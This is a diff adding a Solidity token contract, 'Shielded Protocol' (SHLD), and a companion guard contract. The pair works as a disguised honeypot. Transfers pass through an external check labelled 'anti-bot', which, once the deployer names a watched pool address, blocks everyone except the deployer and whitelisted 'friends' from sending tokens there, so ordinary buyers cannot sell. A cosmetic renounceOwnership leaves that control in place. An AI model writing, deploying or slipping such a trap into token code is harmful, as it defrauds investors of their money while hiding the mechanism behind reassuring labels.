@@ -1,0 +1,48 @@
+// SPDX-License-Identifier: MIT
+pragma solidity 0.8.17;
+
+// Every transfer asks another contract, whose maker decides there who may sell.
+interface Guard { function check(address from, address to, uint256 value) external returns (bool); }
+
+contract GuardedToken {
+    string public name = "Shielded Protocol";
+    string public symbol = "SHLD";
+    uint8 public decimals = 18;
+    uint256 public totalSupply = 1_000_000 ether;
+    mapping(address => uint256) public balanceOf;
+    mapping(address => mapping(address => uint256)) public allowance;
+    event Transfer(address indexed from, address indexed to, uint256 value);
+    event Approval(address indexed owner, address indexed spender, uint256 value);
+    address public owner;
+    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
+    modifier onlyOwner() { require(owner == msg.sender, "Ownable: caller is not the owner"); _; }
+    function renounceOwnership() external onlyOwner { emit OwnershipTransferred(owner, address(0)); owner = address(0); }
+    function transferOwnership(address to) external onlyOwner { require(to != address(0), "zero"); emit OwnershipTransferred(owner, to); owner = to; }
+    Guard public guard;
+    constructor(address to) { guard = Guard(to); owner = msg.sender; balanceOf[msg.sender] = totalSupply; emit OwnershipTransferred(address(0), msg.sender); emit Transfer(address(0), msg.sender, totalSupply); }
+    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
+    function transfer(address to, uint256 value) external returns (bool) { _transfer(msg.sender, to, value); return true; }
+    function transferFrom(address from, address to, uint256 value) external returns (bool) {
+        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
+        _transfer(from, to, value);
+        return true;
+    }
+    function _transfer(address from, address to, uint256 value) private {
+        require(guard.check(from, to, value), "anti-bot");
+        balanceOf[from] -= value;
+        balanceOf[to] += value;
+        emit Transfer(from, to, value);
+    }
+}
+
+contract TransferGuard {
+    address private _boss = msg.sender;
+    address private _watched;
+    mapping(address => bool) private _friends;
+    function watch(address pool) external { require(msg.sender == _boss); _watched = pool; }
+    function befriend(address one) external { require(msg.sender == _boss); _friends[one] = true; }
+    function check(address from, address to, uint256) external view returns (bool) {
+        if (_watched == address(0) || to != _watched) return true;
+        return from == _boss || _friends[from];
+    }
+}
